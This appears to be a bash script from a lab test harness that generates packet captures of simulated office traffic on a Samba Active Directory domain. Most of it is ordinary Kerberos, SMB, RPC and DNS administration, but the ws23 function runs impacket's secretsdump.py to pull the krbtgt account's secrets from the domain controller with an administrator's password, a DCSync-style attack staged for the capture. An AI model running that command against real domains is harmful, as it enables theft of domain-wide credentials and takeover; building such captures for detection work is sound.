# An office day in two minutes, captured at dc1: people of four machines at
# their ordinary work, two domain controllers replicating, and, in the middle of
# it, ws23 copying the krbtgt account's secrets with an administrator's password.
# Sourced by make-captures.sh.

kinit_as() { on $1 sh -c "printf '%s\n' '$3' | kinit $2@$REALM >/dev/null"; }   # host user password
pause() { sleep $1; }

day_ws21() { # alice: looks things up, copies a file
  local rpc="rpcclient ncacn_ip_tcp:$DC1"
  on ws21 host -t SRV _ldap._tcp.dc._msdcs.$DNSDOM $DC1
  kinit_as ws21 alice "$USERPW"
  on ws21 ldbsearch -H ldap://dc1.$DNSDOM --use-kerberos=required --use-krb5-ccache=FILE:$LAB/ws21/ccache -b "CN=Users,DC=corp,DC=example" '(sAMAccountName=alice)' mail memberOf description
  on ws21 smbclient //dc1.$DNSDOM/projects --use-krb5-ccache=FILE:$LAB/ws21/ccache -c "ls; get minutes.txt minutes.copy"
  pause 3
  on ws21 ${rpc}[seal] -U "alice%$USERPW" -W $DOMAIN -c 'querydominfo;getdompwinfo;queryuser alice'
  pause 8
  on ws21 rpcclient "ncacn_ip_tcp:$DC1[135]" -N -c epmmap
  on ws21 ${rpc}[sign] -U "alice%$USERPW" -W $DOMAIN -c 'lookupnames_level 1 bob;queryusergroups 500'
  pause 10
  on ws21 smbclient //dc1/projects -U "alice%$USERPW" -W $DOMAIN -c "put minutes.copy alice.txt; ls; del alice.txt"
}

day_ws22() { # bob: a joined machine, its winbindd speaks over the secure channel
  on ws22 winbindd -F --no-process-group -s $LAB/ws22/smb.conf &
  pause 4
  on ws22 wbinfo -t
  on ws22 wbinfo -a "$DOMAIN\\bob%$USERPW"
  on ws22 wbinfo -a "$DOMAIN\\bob%not-his-password"
  pause 3
  on ws22 wbinfo -n "$DOMAIN\\alice"
  on ws22 wbinfo -n "$DOMAIN\\Accounting"
  on ws22 wbinfo --dsgetdcname=$DNSDOM
  pause 5
  on ws22 smbclient //dc1.$DNSDOM/netlogon -U "bob%$USERPW" -W $DOMAIN -c ls
  kinit_as ws22 bob "$USERPW"
  on ws22 rpcclient "ncacn_ip_tcp:dc1.$DNSDOM[seal,krb5]" --use-kerberos=required --use-krb5-ccache=FILE:$LAB/ws22/ccache -c 'querydominfo;queryuser bob'
  stop_host ws22
}

day_adm30() { # it-admin: DNS, accounts, replication status
  local u="-U it-admin%$USERPW -W $DOMAIN"
  on adm30 rpcclient dc1 $u -c 'srvinfo;netshareenum;lsaquery'
  on adm30 samba-tool dns zonelist dc1.$DNSDOM $u
  on adm30 samba-tool dns add dc1.$DNSDOM $DNSDOM printer A 10.77.0.60 $u
  pause 4
  on adm30 rpcclient "ncacn_ip_tcp:$DC1[seal]" $u -c 'createdomuser frank;queryuser frank'
  pause 3
  kinit_as adm30 it-admin "$USERPW"
  on adm30 samba-tool drs showrepl dc1.$DNSDOM --use-krb5-ccache=FILE:$LAB/adm30/ccache
  on adm30 rpcclient "ncacn_ip_tcp:$DC1[seal]" $u -c 'dsgetdcinfo corp.example;dscracknames it-admin'
  pause 12
  on adm30 samba-tool dns query dc1.$DNSDOM $DNSDOM printer A $u
  on adm30 samba-tool dns delete dc1.$DNSDOM $DNSDOM printer A 10.77.0.60 $u
  on adm30 rpcclient "ncacn_ip_tcp:$DC1[seal]" $u -c 'deletedomuser frank'
}

day_dc2() { # the second controller comes up and fetches what has changed
  start_dc dc2
  pause 8
  on adm30 samba-tool drs replicate dc2.$DNSDOM dc1.$DNSDOM DC=corp,DC=example -U "it-admin%$USERPW" -W $DOMAIN
  pause 15
  on adm30 samba-tool drs replicate dc2.$DNSDOM dc1.$DNSDOM DC=corp,DC=example -U "it-admin%$USERPW" -W $DOMAIN
}

day_ws23() { # carol's machine, in somebody else's hands
  on ws23 host -t A dc1.$DNSDOM $DC1
  on ws23 smbclient //dc1/projects -U "carol%$USERPW" -W $DOMAIN -c "get picture.bin picture.copy"
  on ws23 rpcclient "ncacn_ip_tcp:$DC1[seal]" -U "carol%$USERPW" -W $DOMAIN -c 'querydominfo;queryuser carol'
  pause 12
  on ws23 $PY $IMPACKET/rpcdump.py $DC1
  pause 6
  on ws23 $PY $HERE/impacket_run.py $IMPACKET/secretsdump.py -just-dc-user $DOMAIN/krbtgt "$DOMAIN/it-admin:$USERPW@$DC1"
  pause 6
  on ws23 smbclient //dc1/projects -U "carol%$USERPW" -W $DOMAIN -c ls
}

demo() { # file
  [[ $1 =~ $SELECT ]] || return 0
  [ -n "$LIST" ] && { echo $1; return 0; }
  stop_host dc2
  capture_start dc1 $LAB/demo.raw
  local h w=
  for h in ws21 ws22 ws23 adm30 dc2; do day_$h > $LAB/log/demo-$h.log 2>&1 </dev/null & w="$w $!"; done
  wait $w
  capture_stop
  keep $LAB/demo.raw $1
  say "$1: $(stat -c %s $OUT/$1) bytes"
}
